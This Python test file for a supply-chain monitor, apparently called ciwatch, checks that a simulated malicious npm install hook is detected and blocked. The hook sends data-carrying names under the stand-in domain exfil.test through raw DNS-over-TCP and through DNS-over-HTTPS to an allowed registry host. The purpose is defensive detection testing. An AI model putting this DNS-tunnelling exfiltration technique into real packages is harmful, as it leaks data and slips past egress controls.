"""Class 2, the proxy's side: DNS that doesn't go to ciwatch's DNS listener.

An install hook sends data-carrying names under exfil.test over TCP to the configured DNS
server (a DNS stream, as glibc's TCP fallback would send it) and by DNS-over-HTTPS (wire format
by GET ``?dns=``, and the JSON API) to the allowed registry's own host. Bare, the names reach
the DNS server and the registry; under ciwatch they are recorded and judged by dns-tunnel and
unfamiliar-egress, naming the package and hook; in block mode none of them leaves (exit 3),
even though the DoH server is an allowed host.
"""

from __future__ import annotations

import sys
import textwrap

import pytest

from tests.support.attacks import POLICY_FAILED, assert_found, assert_replay_agrees
from tests.support.hooks import HOOK, Hooks, assert_exit, hosts_of
from tests.support.internet import EXFIL, NPM_REGISTRY, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.root]

PACKAGE = "dns-elsewhere"
TCP_NAMES = [f"{i}f3a9c27d81b46e05{i}7c2.{EXFIL}" for i in range(3)]
DOH_NAMES = [f"{i}b8e41d09c6f2a753{i}9d4.{EXFIL}" for i in range(3)]


def _hook(dns_server: str) -> str:
    return textwrap.dedent(
        f"""\
        import base64, socket, struct, urllib.request

        def query(name):
            labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
            return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 16, 1)

        for name in {TCP_NAMES!r}:
            try:
                with socket.create_connection(("{dns_server}", 53), timeout=5) as s:
                    q = query(name)
                    s.sendall(struct.pack(">H", len(q)) + q)
                    s.recv(4096)
            except OSError:
                pass
        for i, name in enumerate({DOH_NAMES!r}):
            if i % 2:
                url = "https://{NPM_REGISTRY}/resolve?name=" + name + "&type=TXT"
            else:
                wire = base64.urlsafe_b64encode(query(name)).decode().rstrip("=")
                url = "https://{NPM_REGISTRY}/dns-query?dns=" + wire
            try:
                request = urllib.request.Request(url, headers={{"accept": "application/dns-message"}})
                urllib.request.urlopen(request, timeout=10).read()
            except Exception:
                pass
        """
    )


def _doh_requests(internet: TestInternet) -> list[str]:
    return [r.path for r in internet.requests_to(NPM_REGISTRY) if r.path.startswith(("/dns-query", "/resolve"))]


def _publish(hooks: Hooks) -> str:
    return hooks.publish(PACKAGE, f"{sys.executable} hook.py", files={"hook.py": _hook(hooks.internet.dns_server)})


def test_bare_the_names_reach_the_dns_server_and_the_doh_host(internet: TestInternet, hooks: Hooks) -> None:
    hooks.bare_script("hook.py", _hook(internet.dns_server), sys.executable)
    tcp = [q.name for q in internet.dns_log() if q.transport == "tcp"]
    assert tcp == TCP_NAMES
    assert len(_doh_requests(internet)) == len(DOH_NAMES)


def test_audit_records_and_judges_the_names(internet: TestInternet, hooks: Hooks) -> None:
    package = _publish(hooks)
    watched = hooks.install(package)
    assert_exit(watched, 0)
    assert [q.name for q in internet.dns_log() if q.transport == "tcp"] == TCP_NAMES
    tunnel = assert_found(watched, "dns-tunnel", package, HOOK)
    assert EXFIL in hosts_of(tunnel)
    egress = assert_found(watched, "unfamiliar-egress", package, HOOK)
    assert set(TCP_NAMES + DOH_NAMES) <= hosts_of(egress), watched.described()
    assert_replay_agrees(watched)


@pytest.mark.parametrize("net", [None, "sandbox"])
def test_block_refuses_every_name_before_it_leaves(internet: TestInternet, hooks: Hooks, net: str | None) -> None:
    package = _publish(hooks)
    watched = hooks.install(package, mode="block", net=net)
    assert_exit(watched, POLICY_FAILED)
    leaked = [name for name in internet.dns_queries() if name.endswith("." + EXFIL)]
    assert leaked == [] and _doh_requests(internet) == []
    assert_found(watched, "dns-tunnel", package, HOOK)
    assert_replay_agrees(watched)
